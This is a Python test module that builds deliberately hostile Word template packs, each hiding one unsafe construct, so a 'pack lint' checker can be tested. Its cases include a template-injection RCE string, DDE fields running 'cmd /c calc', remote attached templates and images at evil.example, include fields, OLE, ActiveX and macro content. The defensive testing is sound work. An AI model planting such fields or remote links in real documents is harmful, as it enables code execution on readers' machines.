"""Hostile template packs, made by code from the tiny test pack: each hides one unsafe thing."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from docx import Document

from tests.hostile.corpus import RCE, part, rezip
from tests.tiny_pack import make_tiny_pack

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class TemplateCase:
    name: str
    spoil: Callable[[Path], None]  # changes the pack folder's agreement.docx
    rule: str  # the finding `pack lint` must report


def edit(folder: Path, change: Callable[[bytes], dict[str, bytes | None]]) -> None:
    template = folder / "agreement.docx"
    data = template.read_bytes()
    template.write_bytes(rezip(data, change(data)))


def in_body(xml: str) -> Callable[[Path], None]:
    """Put raw WordprocessingML at the start of the body."""

    def spoil(folder: Path) -> None:
        def change(data: bytes) -> dict[str, bytes | None]:
            body = part(data, "word/document.xml").decode()
            return {"word/document.xml": body.replace("<w:body>", "<w:body>" + xml, 1).encode()}

        edit(folder, change)

    return spoil


def with_relationship(
    rels: str, kind: str, target: str, external: bool, extra: dict[str, bytes]
) -> Callable[[bytes], dict[str, bytes | None]]:
    """A change adding one relationship to a .rels part (and any parts it needs)."""

    def change(data: bytes) -> dict[str, bytes | None]:
        try:
            xml = part(data, rels).decode()
        except KeyError:
            xml = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}"></Relationships>'
        mode = ' TargetMode="External"' if external else ""
        added = f'<Relationship Id="rIdX9" Type="{REL}/{kind}" Target="{target}"{mode}/>'
        return {rels: xml.replace("</Relationships>", added + "</Relationships>").encode(), **extra}

    return change


def relationship(
    rels: str, kind: str, target: str, *, external: bool = True, extra: dict[str, bytes] | None = None
) -> Callable[[Path], None]:
    return lambda folder: edit(folder, with_relationship(rels, kind, target, external, extra or {}))


def both(*spoils: Callable[[Path], None]) -> Callable[[Path], None]:
    def spoil(folder: Path) -> None:
        for one in spoils:
            one(folder)

    return spoil


def in_header(text: str, *, footer: bool = False) -> Callable[[Path], None]:
    def spoil(folder: Path) -> None:
        document = Document(str(folder / "agreement.docx"))
        section = document.sections[0]
        (section.footer if footer else section.header).paragraphs[0].text = text
        document.save(str(folder / "agreement.docx"))

    return spoil


def in_core_title(folder: Path) -> None:
    document = Document(str(folder / "agreement.docx"))
    document.core_properties.title = RCE
    document.save(str(folder / "agreement.docx"))


def in_app_properties(folder: Path) -> None:
    app = (
        '<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/extended-properties"><Company>{RCE}</Company></Properties>'
    )
    edit(folder, lambda data: {"docProps/app.xml": app.encode()})


def macros(folder: Path) -> None:
    def change(data: bytes) -> dict[str, bytes | None]:
        types = part(data, "[Content_Types].xml").replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        return {"[Content_Types].xml": types, "word/vbaProject.bin": b"\0" * 512}

    edit(folder, change)


def field(code: str) -> str:
    """A complex field whose code is split over runs, as Word writes it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code.split("|")
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def simple_field(code: str) -> str:
    quoted = code.replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{quoted}"><w:r><w:t>result</w:t></w:r></w:fldSimple></w:p>'


NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText> "c:\\\\windows\\\\system32\\\\cmd.exe" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
OLE = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    'Type="Embed" ProgID="Package" r:id="rIdX9" '
    f'xmlns:r="{REL}"/></w:object></w:r></w:p>'
)
DOC_RELS = "word/_rels/document.xml.rels"

TEMPLATES = [
    TemplateCase("RCE payload in the body", in_body(f"<w:p><w:r><w:t>{RCE}</w:t></w:r></w:p>"), "jinja"),
    TemplateCase("RCE payload in a header", in_header(RCE), "jinja"),
    TemplateCase("RCE payload in a footer", in_header(RCE, footer=True), "jinja"),
    TemplateCase("RCE payload in the title", in_core_title, "jinja"),
    TemplateCase("RCE payload in app properties", in_app_properties, "jinja"),
    TemplateCase("Jinja in an attribute", in_body('<w:bookmarkStart w:id="9" w:name="{{ 7*7 }}"/>'), "jinja"),
    TemplateCase("Jinja set statement", in_body("<w:p><w:r><w:t>{% set x = 1 %}</w:t></w:r></w:p>"), "jinja"),
    TemplateCase("Jinja include", in_body("<w:p><w:r><w:t>{% include 'x' %}</w:t></w:r></w:p>"), "jinja"),
    TemplateCase(
        "Jinja unknown filter",
        in_body("<w:p><w:r><w:t>{{ supervisor.name|attr('x') }}</w:t></w:r></w:p>"),
        "jinja",
    ),
    TemplateCase(
        "remote attached template",
        relationship("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm"),
        "attached-template",
    ),
    TemplateCase(
        "remote picture", relationship(DOC_RELS, "image", "https://evil.example/p.png"), "external-link"
    ),
    TemplateCase(
        "hyperlink to a share", relationship(DOC_RELS, "hyperlink", "file://server/share"), "external-link"
    ),
    TemplateCase("DDE field", in_body(field(' DDE "cmd" "/c calc" ')), "dde-field"),
    TemplateCase("DDEAUTO split over runs", in_body(field(" DD|EAUTO c:\\\\a.exe ")), "dde-field"),
    TemplateCase("DDEAUTO simple field", in_body(simple_field("DDEAUTO c:\\\\a.exe")), "dde-field"),
    TemplateCase(
        "INCLUDETEXT field", in_body(field(' INCLUDETEXT "\\\\\\\\server\\\\x.docx" ')), "include-field"
    ),
    TemplateCase(
        "INCLUDEPICTURE field",
        in_body(simple_field('INCLUDEPICTURE "https://evil.example/p"')),
        "include-field",
    ),
    TemplateCase("field code built by a field", in_body(NESTED), "field"),
    TemplateCase(
        "altChunk",
        both(
            in_body(f'<w:altChunk r:id="rIdX9" xmlns:r="{REL}"/>'),
            relationship(
                DOC_RELS, "aFChunk", "chunk.html", external=False, extra={"word/chunk.html": b"<p/>"}
            ),
        ),
        "altchunk",
    ),
    TemplateCase(
        "embedded OLE object",
        both(
            in_body(OLE),
            relationship(
                DOC_RELS,
                "oleObject",
                "embeddings/x.bin",
                external=False,
                extra={"word/embeddings/x.bin": b"\0"},
            ),
        ),
        "embedded-object",
    ),
    TemplateCase(
        "ActiveX control",
        in_body('<w:p><w:r><w:control r:id="rIdX9" xmlns:r="' + REL + '"/></w:r></w:p>'),
        "activex",
    ),
    TemplateCase("macros (.docm)", macros, "macro"),
]


def hostile_pack(folder: Path, case: TemplateCase) -> Path:
    make_tiny_pack(folder)
    case.spoil(folder)
    return folder
